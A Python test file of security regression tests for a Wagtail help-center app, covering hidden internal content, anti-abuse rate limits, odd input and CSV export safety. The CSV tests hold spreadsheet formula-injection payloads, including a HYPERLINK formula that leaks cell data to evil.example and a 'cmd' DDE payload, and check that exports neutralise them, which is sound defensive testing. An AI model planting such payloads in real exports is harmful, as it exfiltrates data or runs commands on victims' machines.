"""Regression tests for the outside security review (privacy, abuse, bad input): each
fails on the code before its fix. Items 1 (translations), the discussions' items and
the importer's have files of their own: test_translation_privacy.py,
test_security_discussions.py, test_import_security.py."""

import json

import pytest
from django.contrib.auth.models import Group
from wagtail.models import Page

from tests.factories import ArticlePageFactory, CategoryPageFactory, FAQPageFactory, UserFactory
from tests.utils import run_on_sqlite_file, soup

pytestmark = pytest.mark.django_db


def json_ld(document, kind):
    for script in document.select('script[type="application/ld+json"]'):
        data = json.loads(script.string)
        if data.get("@type") == kind:
            return data
    return None


# 4. An unpublished category is never named ------------------------------------------


@pytest.fixture
def unpublished_section(category):
    """Billing > Secret plans (unpublished, its article left live, as Wagtail allows)."""
    section = CategoryPageFactory(parent=category, title="Secret plans", slug="secret-plans")
    article = ArticlePageFactory(
        parent=section, title="Cancel an invoice", slug="cancel", summary="Cancel an invoice."
    )
    Page.objects.get(pk=section.pk).specific.unpublish()
    return article


def test_unpublished_category_is_not_in_breadcrumbs(client, unpublished_section, search_index):
    response = client.get(unpublished_section.url)
    assert response.status_code == 200  # Wagtail serves the live page below it
    page = response.content.decode()
    assert "Secret plans" not in page
    assert "/secret-plans/" not in soup(response).select_one(".hc-breadcrumbs").decode()
    crumbs = json_ld(soup(response), "BreadcrumbList")["itemListElement"]
    assert [crumb["name"] for crumb in crumbs] == [
        "Welcome to your new Wagtail site!",
        "Acme Help",
        "Billing",
        "Cancel an invoice",
    ]


@pytest.mark.search
def test_unpublished_category_is_not_a_search_results_category(
    client, unpublished_section, search_index
):
    search_index.add(unpublished_section)  # made before the fixture emptied the index
    search_index.refresh_indexes()
    data = client.get("/help/search/", {"q": "cancel", "format": "json"}).json()
    assert [hit["title"] for hit in data["results"]] == ["Cancel an invoice"]
    assert data["results"][0]["category"] in ("", None)
    assert "Secret plans" not in json.dumps(data)


# 5. A category of internal articles only is not public ---------------------------------


@pytest.fixture
def escalations(help_center):
    """Support playbooks (public) > Escalations (public), holding one internal article."""
    playbooks = CategoryPageFactory(parent=help_center, title="Support playbooks", slug="playbooks")
    escalations = CategoryPageFactory(parent=playbooks, title="Escalations", slug="escalations")
    ArticlePageFactory(
        parent=escalations, title="Call the on-duty lead", slug="lead", audience="internal"
    )
    return escalations


def test_category_of_internal_articles_is_hidden_from_visitors(
    client, help_center, article, escalations
):
    home = client.get(help_center.url).content.decode()
    assert "Billing" in home and "Support playbooks" not in home
    assert client.get(escalations.url).status_code == 404
    assert client.get(escalations.get_parent().url).status_code == 404
    sitemap = client.get("/sitemap.xml").content.decode()
    assert "/playbooks/" not in sitemap and "/help/billing/" in sitemap
    api = client.get("/help/api/categories/").json()
    assert [item["title"] for item in api["results"]] == ["Billing"]
    assert client.get("/help/api/articles/", {"category": escalations.pk}).status_code == 400
    feed = client.get("/help/feed/", {"category": escalations.pk})
    assert feed.status_code == 400 and "Escalations" not in feed.content.decode()
    search = client.get("/help/search/").content.decode()  # the empty state lists categories
    assert "Support playbooks" not in search


def test_a_category_of_internal_articles_is_not_suggested_nor_picked(
    client, help_center, article, escalations, search_index
):
    from wagtail.contrib.search_promotions.models import Query, SearchPromotion

    SearchPromotion.objects.create(
        query=Query.get("escalation"), page=escalations, description="Escalations"
    )
    data = client.get("/help/search/", {"q": "escalation", "format": "json"}).json()
    assert "Escalations" not in json.dumps(data["picks"])
    data = client.get("/help/search/", {"q": "escalatons", "format": "json"}).json()
    assert data["suggestion"] is None


def test_staff_see_the_category_of_internal_articles(client, help_center, escalations):
    client.force_login(UserFactory(username="agent", groups=[Group.objects.get(name="Editors")]))
    assert "Support playbooks" in client.get(help_center.url).content.decode()
    assert client.get(escalations.url).status_code == 200


def test_a_category_with_a_faq_page_is_shown(client, help_center):
    questions = CategoryPageFactory(parent=help_center, title="Questions", slug="questions")
    FAQPageFactory(parent=questions, title="Common questions", slug="common")
    assert "Questions" in client.get(help_center.url).content.decode()
    assert client.get(questions.url).status_code == 200


# 6. Staff login names are never published ----------------------------------------------


def test_article_author_is_never_a_login_name(client, category, settings):
    owner = UserFactory(username="jane.doe@example.com", first_name="", last_name="")
    article = ArticlePageFactory(parent=category, title="Refunds", slug="refunds")
    article.content_owner = owner
    article.save_revision().publish()

    response = client.get(article.url)
    assert "jane.doe" not in response.content.decode()
    author = json_ld(soup(response), "Article")["author"]
    assert author["@type"] == "Organization"

    settings.WAGTAIL_HELPCENTER = {"PUBLIC_NAME_FALLBACK": "The Acme team"}
    author = json_ld(soup(client.get(article.url)), "Article")["author"]
    assert author == {"@type": "Organization", "name": "The Acme team"}

    owner.first_name, owner.last_name = "Jane", "Doe"
    owner.save()
    author = json_ld(soup(client.get(article.url)), "Article")["author"]
    assert author == {"@type": "Person", "name": "Jane Doe"}


# 7. Rich text links are hidden by Wagtail's own parsing ---------------------------------


@pytest.mark.parametrize(
    "link",
    [
        # Wagtail reads id=, a regex read the last "id=" (data-id): a public page.
        '<a linktype="page" id="{pk}" data-id="{public}">the playbook</a>',
        '<a data-x="1" linktype="page" id="{pk}">the playbook</a>',
        '<a linktype="page" id="{pk}">the playbook',  # never closed
    ],
)
def test_links_to_internal_pages_are_hidden_however_written(
    client, category, internal_article, link
):
    link = link.format(pk=internal_article.pk, public=category.pk)
    body = [{"type": "paragraph", "value": "<p>See " + link}]
    article = ArticlePageFactory(parent=category, title="Refunds", slug="refunds", body=body)
    page = client.get(article.url).content.decode()
    assert "the playbook" in page
    assert internal_article.url not in page
    assert "refund-escalation" not in page


def test_a_page_link_with_an_impossible_id_is_plain_text(client, category):
    body = [{"type": "paragraph", "value": f'<p><a linktype="page" id="{"9" * 30}">gone</a></p>'}]
    article = ArticlePageFactory(parent=category, title="Refunds", slug="refunds", body=body)
    response = client.get(article.url)
    assert response.status_code == 200
    assert "<a>gone</a>" in response.content.decode()


def test_community_rules_hide_links_to_internal_pages(client, article, internal_article):
    from wagtail_helpcenter.discussions.models import CommunityRules

    CommunityRules.objects.create(
        body=f'<p>Read <a linktype="page" id="{internal_article.pk}">our playbook</a>.</p>'
    )
    page = client.get(article.url).content.decode()
    assert "our playbook" in page
    assert internal_article.url not in page


# 8. Responses with staff-only content are private ---------------------------------------


def cache_control(response):
    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part}


def test_responses_with_staff_only_content_are_private(
    client, help_center, article, internal_article, staff_user
):
    assert "private" not in cache_control(client.get(help_center.url))
    client.force_login(staff_user)
    for url, params in [
        (internal_article.url, {}),
        (help_center.url, {}),  # lists the internal category
        (article.url, {}),
        ("/help/search/", {"q": "refund"}),
        ("/help/search/", {"q": "refund", "format": "json"}),
        ("/help/search/suggest/", {"q": "refu"}),
    ]:
        response = client.get(url, params)
        assert response.status_code == 200, url
        assert "private" in cache_control(response), url
        assert "Cookie" in response.get("Vary", ""), url


# 11. No formulas in CSV exports ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def export_cells(client, url_name):
    import csv
    import io

    from django.urls import reverse

    response = client.get(reverse(url_name), {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def test_confirmation_limits_see_one_mailbox_and_one_network():
    from wagtail_helpcenter.discussions.pending import recipient_key
    from wagtail_helpcenter.visitors import network_of

    assert recipient_key('"Victim"@Example.com') == recipient_key("victim+x@example.com")
    assert recipient_key("v.i.c.tim@googlemail.com") == recipient_key("victim@gmail.com")
    assert recipient_key("v.ictim@example.com") != recipient_key("victim@example.com")
    assert network_of("2001:db8::1") == network_of("2001:db8::e") == "2001:db8::/64"
    assert network_of("::ffff:192.0.2.1") == "192.0.2.1"


def test_csv_exports_neutralise_formulas(admin_client, help_center, category):
    from django.utils import timezone

    from wagtail_helpcenter.models import SearchTermDay, Vote

    article = ArticlePageFactory(parent=category, title="@SUM(1+1)", slug="sum")
    SearchTermDay.objects.create(
        help_center=help_center, date=timezone.localdate(), query=FORMULA, searches=3
    )
    for n, comment in enumerate(["+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]):
        Vote.objects.create(page=article, voter=str(n), helpful=False, comment=comment)

    cells = [
        *export_cells(admin_client, "wagtail_helpcenter_search_terms"),
        *export_cells(admin_client, "wagtail_helpcenter_feedback"),
        *export_cells(admin_client, "wagtail_helpcenter_article_performance"),
    ]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert {"'+cmd|' /C calc'!A0", "'-2+3", "'\tTAB"} <= set(cells)
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


# 12. Search terms: completed searches, a rate limit, distinct visitors -----------------


def searched(client, query, address="192.0.2.1", **params):
    return client.get("/help/search/", {"q": query, **params}, REMOTE_ADDR=address)


def term_counts(query):
    from wagtail_helpcenter.models import SearchTermDay

    row = SearchTermDay.objects.filter(query=query).first()
    return (row.searches, row.visitors) if row else (0, 0)


def test_only_completed_searches_are_counted(client, article, search_index):
    for prefix in ("i", "in", "inv", "invo"):  # the widget, as the visitor types
        searched(client, prefix, format="json")
    searched(client, "invoice", format="json", complete="1")  # Enter in the widget
    searched(client, "download")  # the search page's form

    assert term_counts("invo") == (0, 0)
    assert term_counts("invoice") == (1, 1)
    assert term_counts("download") == (1, 1)


def test_counting_is_rate_limited_per_visitor(client, article, settings, search_index):
    settings.WAGTAIL_HELPCENTER = {"SEARCH_TERMS_PER_ADDRESS": 5}
    for _ in range(12):
        assert searched(client, "buy cheap pills").status_code == 200
    assert term_counts("buy cheap pills") == (5, 1)


def test_top_lists_need_several_visitors(admin_client, client, article, search_index):
    from django.utils import timezone

    from wagtail_helpcenter.analytics import DEFAULT_PERIOD, Period, search_gap_count, search_gaps

    for _ in range(30):
        searched(client, "visit spam example")
    for address in ("192.0.2.2", "192.0.2.3", "192.0.2.4"):
        searched(client, "vat refund", address=address)

    period = Period(DEFAULT_PERIOD, timezone.localdate())
    assert search_gaps(period) == [("vat refund", 3)]
    assert search_gap_count(period) == 1
    dashboard = admin_client.get("/admin/helpcenter/").content.decode()
    assert "vat refund" in dashboard and "visit spam example" not in dashboard


# 13. Views and votes cannot be inflated by one visitor -----------------------------------


def test_a_visitors_views_count_once_a_day(client, article):
    from wagtail_helpcenter.models import PageViewDay

    for _ in range(5):
        client.get(article.url, REMOTE_ADDR="192.0.2.1", HTTP_USER_AGENT="Firefox")
    client.get(article.url, REMOTE_ADDR="192.0.2.2", HTTP_USER_AGENT="Firefox")
    assert PageViewDay.objects.get(page=article).views == 2


def test_a_fresh_cookie_is_not_a_new_voter(article):
    """And it never changes the vote of someone else behind the same address."""
    from django.test import Client

    from wagtail_helpcenter.models import Vote

    statuses = [
        Client(REMOTE_ADDR="192.0.2.1")  # a new client each time: no voter cookie
        .post("/help/feedback/", {"page": article.pk, "helpful": helpful})
        .status_code
        for helpful in ("no", "yes", "yes", "yes")
    ]
    assert statuses == [303, 429, 429, 429]
    Client(REMOTE_ADDR="2001:db8::1").post(
        "/help/feedback/", {"page": article.pk, "helpful": "yes"}
    )
    same_line = Client(REMOTE_ADDR="2001:db8::2")  # the same /64
    assert (
        same_line.post("/help/feedback/", {"page": article.pk, "helpful": "no"}).status_code == 429
    )
    assert sorted(Vote.objects.values_list("helpful", flat=True)) == [False, True]


def test_a_browser_name_is_not_a_visitor(client, article):
    from wagtail_helpcenter.models import PageViewDay

    for number in range(20):
        client.get(article.url, REMOTE_ADDR="192.0.2.1", HTTP_USER_AGENT=f"Browser {number}")
    assert PageViewDay.objects.get(page=article).views == 1


def test_a_per_process_cache_is_reported(settings):
    from wagtail_helpcenter.checks import check_shared_cache

    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    assert [message.id for message in check_shared_cache(None)] == ["wagtail_helpcenter.W003"]
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.filebased.FileBasedCache",
            "LOCATION": "/tmp/x",
        }
    }
    assert check_shared_cache(None) == []


# 14. Ids past the database's range -------------------------------------------------------

HUGE = "9" * 30


@pytest.mark.parametrize("number", [HUGE, str(2**63), str(2**31)])
def test_huge_ids_are_not_found(admin_client, client, help_center, article, number):
    assert client.get(f"/help/api/articles/{number}/").status_code == 404
    assert client.get("/help/api/articles/", {"category": number}).status_code == 400
    assert client.get("/help/feed/", {"category": number}).status_code == 400
    assert client.get("/help/search/", {"q": "x", "category": number}).status_code in (200, 400)
    assert admin_client.get(f"/admin/helpcenter/reviewed/{number}/").status_code == 404
    report = admin_client.get("/admin/reports/helpcenter-search-terms/", {"help_center": number})
    assert report.status_code == 200
    report = admin_client.get("/admin/reports/helpcenter-articles/", {"content_owner": number})
    assert report.status_code == 200


def test_more_digits_than_python_reads_are_no_500(admin_client, client, faq_with_answer):
    digits = "9" * 5000
    assert client.get(faq_with_answer.url, {"voted": "yes", "answer": digits}).status_code == 200
    assert admin_client.get("/admin/helpcenter/", {"days": digits}).status_code in (200, 400)
    report = admin_client.get("/admin/reports/helpcenter-articles/", {"days": digits})
    assert report.status_code in (200, 400)


@pytest.fixture
def faq_with_answer(category):
    from tests.factories import add_faq_items

    return add_faq_items(FAQPageFactory(parent=category, title="FAQ"), ("Q?", "<p>A.</p>"))


# 15. Control characters ------------------------------------------------------------------


def test_control_characters_are_cleaned_on_save(category):
    article = ArticlePageFactory(
        parent=category, title="Back\x08space\x00", slug="ctl", summary="Bell\x07 here"
    )
    article.refresh_from_db()
    assert (article.title, article.summary) == ("Backspace", "Bell here")


def test_feeds_never_fail_on_content(client, help_center, article):
    from wagtail_helpcenter.models import ArticlePage

    # Text stored before cleaning on save existed.
    ArticlePage.objects.filter(pk=article.pk).update(summary="A \x0b vertical tab")
    Page.objects.filter(pk=article.pk).update(title="Tab\x08 title")
    for url in ("/help/feed/", "/help/feed/atom/"):
        response = client.get(url)
        assert response.status_code == 200
        assert "Tab title" in response.content.decode()


# 19. Concurrent writes on SQLite ------------------------------------------------------


def test_concurrent_votes_on_sqlite_never_fail(tmp_path):
    """Twelve visitors voting at once on a real SQLite file, with the recommended
    settings (tests.settings, as docs/how-to/deploy.md): every vote answered, none lost."""
    from django.db import connection

    if connection.vendor != "sqlite":
        pytest.skip("the SQLite file case; PostgreSQL runs the whole suite's writes")
    output = run_on_sqlite_file(
        "tests.vote_concurrently", tmp_path / "votes.sqlite3", "--processes", 12, "--votes", 4
    )
    assert output == ["statuses=303", "answered=48", "votes=48"]


def test_sqlite_without_immediate_transactions_is_reported(settings):
    from wagtail_helpcenter.checks import check_sqlite_writes

    database = {"ENGINE": "django.db.backends.sqlite3", "NAME": "db.sqlite3"}
    settings.DATABASES = {"default": database}
    assert [message.id for message in check_sqlite_writes(None)] == ["wagtail_helpcenter.W004"]
    settings.DATABASES = {"default": {**database, "OPTIONS": {"transaction_mode": "IMMEDIATE"}}}
    assert check_sqlite_writes(None) == []
